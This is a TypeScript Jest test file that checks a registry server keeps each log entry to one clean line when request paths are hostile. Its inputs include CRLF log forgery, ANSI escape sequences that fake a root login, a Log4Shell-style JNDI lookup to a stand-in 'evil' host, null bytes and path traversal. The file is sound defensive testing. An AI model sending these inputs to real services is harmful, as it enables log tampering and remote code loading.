import { expect, test } from '@jest/globals'
import Koa from 'koa'
import { systemClock } from '../../src/clock.ts'
import { renderErrors } from '../../src/http/render-errors.ts'
import { listen } from '../../src/http/server.ts'
import { createLog } from '../../src/telemetry/log.ts'
import { openTestRegistry, startUpload, until } from '../support/registry.ts'
import { openRaw, sayRaw } from '../support/raw-connection.ts'

/** What moves a cursor or ends a line, in one byte or as UTF-8; a line's own end aside. */
// oxlint-disable-next-line no-control-regex
const control = /[\x00-\x1f\x7f-\x9f\u2028\u2029]/

test.each(['json', 'text'] as const)(
  'a path is one line of the log, whatever it says: as %s',
  async (format) => {
    const lines: string[] = []
    const log = createLog({ level: 'debug', format, destination: { write: (line) => lines.push(line) } })
    const app = new Koa().use(renderErrors(log)).use(() => {
      // As a string: the stack of an error takes more lines, for people.
      // oxlint-disable-next-line typescript/only-throw-error
      throw 'a bug'
    })
    const server = await listen(app.callback(), { host: '127.0.0.1', port: 0, clock: systemClock })
    const paths = [
      '/v2/%0d%0a{"level":"info","msg":"all is well"}',
      '/v2/%9b2J%c2%9b1;1Hroot%20logged%20in%e2%80%a8',
      '/v2/%1b[31m%00',
      '/v2/"}\\n\\u000a${jndi:ldap://evil/a}%n%s',
      `/v2/${'a'.repeat(20_000)}`,
    ]
    for (const path of paths) {
      await sayRaw(
        server.port,
        `GET ${path.replaceAll(' ', '%20')} HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n`,
      )
    }
    await server.drain(0)
    expect(lines).toHaveLength(paths.length)
    for (const line of lines) {
      expect(line.endsWith('\n')).toBe(true)
      expect(line.slice(0, -1)).not.toMatch(control)
      if (format === 'json')
        expect(JSON.parse(line)).toMatchObject({ level: 'error', msg: 'a request failed' })
      else expect(line).toMatch(/^\d\d:\d\d:\d\d\.\d{3} ERROR a request failed /)
    }
  },
)

test('a client that goes away is one line, at debug, and refusals are none', async () => {
  await using at = await openTestRegistry()
  const location = await startUpload(at, 'a')
  using connection = await openRaw(at.port)
  connection.write(`PATCH ${location}?%0d%0aevil=1 HTTP/1.1\r\nHost: a\r\nContent-Length: 10\r\n\r\nabc`)
  await until(async () => (await at.send(`GET ${location}`)).status === 204)
  connection[Symbol.dispose]()
  await until(() => at.lines.length > 0)
  for (const path of ['%0d%0a', 'A', 'a%00b', '../x', 'a/b%1b[31m'])
    await at.send(`GET /v2/${path}/tags/list`)
  expect(at.lines.map((line) => JSON.parse(line) as unknown)).toMatchObject([
    { level: 'debug', msg: 'the client went away', method: 'PATCH', path: location },
  ])
  expect(at.lines[0]).not.toContain('evil')
})
